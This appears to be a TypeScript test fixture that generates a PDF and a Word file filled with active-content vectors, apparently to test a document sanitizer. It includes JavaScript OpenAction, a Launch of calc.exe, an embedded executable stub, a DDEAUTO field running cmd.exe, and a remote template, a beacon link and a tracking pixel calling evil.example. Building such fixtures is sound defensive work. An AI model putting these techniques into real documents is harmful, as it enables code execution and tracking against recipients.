import { contentTypes, makeZip } from './make-zip.ts'

const objects = [
  '<</Type /Catalog /Pages 2 0 R /OpenAction 5 0 R /AA <</WC 6 0 R>> /Names <</EmbeddedFiles <</Names [(a.exe) 7 0 R]>> /JavaScript <</Names [(x) 5 0 R]>>>> /AcroForm <</Fields [] /XFA (remote-form)>>>>',
  '<</Type /Pages /Count 1 /Kids [3 0 R]>>',
  '<</Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R /Annots [9 0 R 10 0 R 11 0 R 12 0 R]>>',
  '<</Length 33>>\nstream\nBT 72 720 Td (kept content) Tj ET\nendstream',
  '<</S /#4aavaScript /JS (app.alert\\(1\\))>>',
  '<</Type /Action /S /Launch /F (calc.exe)>>',
  '<</Type /Filespec /F (a.exe) /EF <</F 8 0 R>>>>',
  '<</Type /EmbeddedFile /Length 15>>\nstream\nMZ-evil-program\nendstream',
  '<</Type /Annot /Subtype /Link /Rect [0 0 9 9] /A <</S /URI /URI (https://evil.example/beacon)>>>>',
  '<</Type /Annot /Subtype /FileAttachment /Rect [0 0 9 9] /FS 7 0 R /Contents (attached-file)>>',
  '<</Type /Annot /Subtype /RichMedia /Rect [0 0 9 9] /RichMediaContent <</X (flash-film)>>>>',
  '<</Type /Annot /Subtype /Link /Rect [0 0 9 9] /A <</S /GoTo /D [3 0 R /Fit] /Next <</S /SubmitForm /F (https://evil.example/form)>>>>>>',
]

/** A PDF with everything that can run, call or contain something. */
export function activePdf(): Buffer {
  let text = '%PDF-1.7\n'
  const offsets: number[] = []
  objects.forEach((object, index) => {
    offsets.push(text.length)
    text += `${index + 1} 0 obj\n${object}\nendobj\n`
  })
  const start = text.length
  const lines = offsets.map((offset) => `${String(offset).padStart(10, '0')} 00000 n \n`)
  text += `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n${lines.join('')}`
  text += `trailer\n<</Size ${objects.length + 1} /Root 1 0 R>>\nstartxref\n${start}\n%%EOF\n`
  return Buffer.from(text, 'latin1')
}

const office = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships'
const word = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
const relation = (id: string, type: string, target: string, more = '') =>
  `<Relationship Id="${id}" Type="${office}/${type}" Target="${target}" ${more}/>`
const relationsOf = (...all: string[]) =>
  `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${all.join('')}</Relationships>`
const external = 'TargetMode="External"'

/** The same for Word. */
export function activeDocx(): Buffer {
  return makeZip([
    contentTypes(),
    {
      name: '_rels/.rels',
      content: relationsOf(relation('rId1', 'officeDocument', 'word/document.xml')),
    },
    {
      name: 'word/document.xml',
      content: `<w:document ${word}><w:p><w:r><w:t>kept content</w:t></w:r>
        <w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>DD</w:instrText></w:r>
        <x:instrText xmlns:x="same">EAUTO c:\\\\evil\\\\cmd.exe</x:instrText>
        <w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>field result</w:t></w:r>
        <w:fldSimple w:instr='INCLUDETEXT "https://evil.example/a"'><w:r><w:t>simple result</w:t></w:r></w:fldSimple>
        <w:object><o:OLEObject Type="Embed" ProgID="Package" r:id="rId4"/></w:object>
        <a:blip r:embed="rId5" r:link="rId6"/><w:hyperlink r:id="rId7"/></w:p></w:document>`,
    },
    {
      name: 'word/_rels/document.xml.rels',
      content: relationsOf(
        relation('rId3', 'settings', 'settings.xml'),
        relation('rId4', 'oleObject', 'embeddings/oleObject1.bin'),
        relation('rId5', 'image', 'media/image1.png'),
        relation('rId6', 'image', 'https://evil.example/pixel.png', 'TargetMode="&#69;xternal"'),
        relation('rId7', 'hyperlink', 'file://evil.example/share', external),
      ),
    },
    {
      name: 'word/settings.xml',
      content: `<w:settings ${word}><w:attachedTemplate r:id="rId1"/></w:settings>`,
    },
    {
      name: 'word/_rels/settings.xml.rels',
      content: relationsOf(
        relation('rId1', 'attachedTemplate', 'https://evil.example/t.dotm', external),
      ),
    },
    { name: 'word/media/image1.png', content: 'picture' },
    { name: 'word/embeddings/oleObject1.bin', content: 'MZ-evil-program' },
  ])
}
